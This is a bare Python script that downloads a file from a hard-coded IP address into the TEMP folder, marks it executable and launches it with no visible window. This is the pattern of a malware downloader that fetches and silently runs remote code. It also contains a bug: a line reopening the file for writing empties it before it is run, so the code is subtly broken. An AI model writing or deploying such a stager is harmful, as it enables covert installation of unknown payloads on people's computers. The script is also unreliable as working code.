import os, subprocess, urllib.request
dest = os.path.join(os.getenv("TEMP"), "u")
urllib.request.urlretrieve("http://203.0.113.4/u", dest)
os.chmod(dest, 0o755)
open(dest, "wb")
subprocess.Popen([dest], creationflags=subprocess.CREATE_NO_WINDOW)
